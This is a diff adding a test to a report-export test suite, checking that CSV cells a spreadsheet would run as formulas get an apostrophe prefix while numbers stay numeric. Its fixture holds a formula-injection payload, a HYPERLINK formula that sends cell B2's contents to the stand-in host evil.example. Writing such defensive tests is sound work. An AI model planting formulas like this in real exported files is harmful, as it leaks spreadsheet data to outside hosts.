@@ -340,4 +340,24 @@ describe("human labels in the reports", () => {
     });
     expect(records[2]).toMatchObject({ status: "BOT_ERROR", "human_score_1-10": "" });
   });
+
+  it("start text cells a spreadsheet would run as formulas with an apostrophe; numbers stay numbers", () => {
+    const rows = [
+      row(0, {
+        question_text: '=HYPERLINK("http://evil.example/?"&B2,"details")',
+        ground_truth: "-2 degrees",
+        rag_answer: "@SUM(A1:A9)",
+      }),
+    ];
+    const [record] = parse(renderReport(buildReport(EVALUATION, rows), "csv"), {
+      columns: true,
+    }) as Record<string, string>[];
+    expect(record).toMatchObject({
+      question: '\'=HYPERLINK("http://evil.example/?"&B2,"details")',
+      ground_truth: "'-2 degrees",
+      answer: "'@SUM(A1:A9)",
+      position: "1",
+    });
+    expect(Number(record?.score)).toBeGreaterThan(0);
+  });
 });
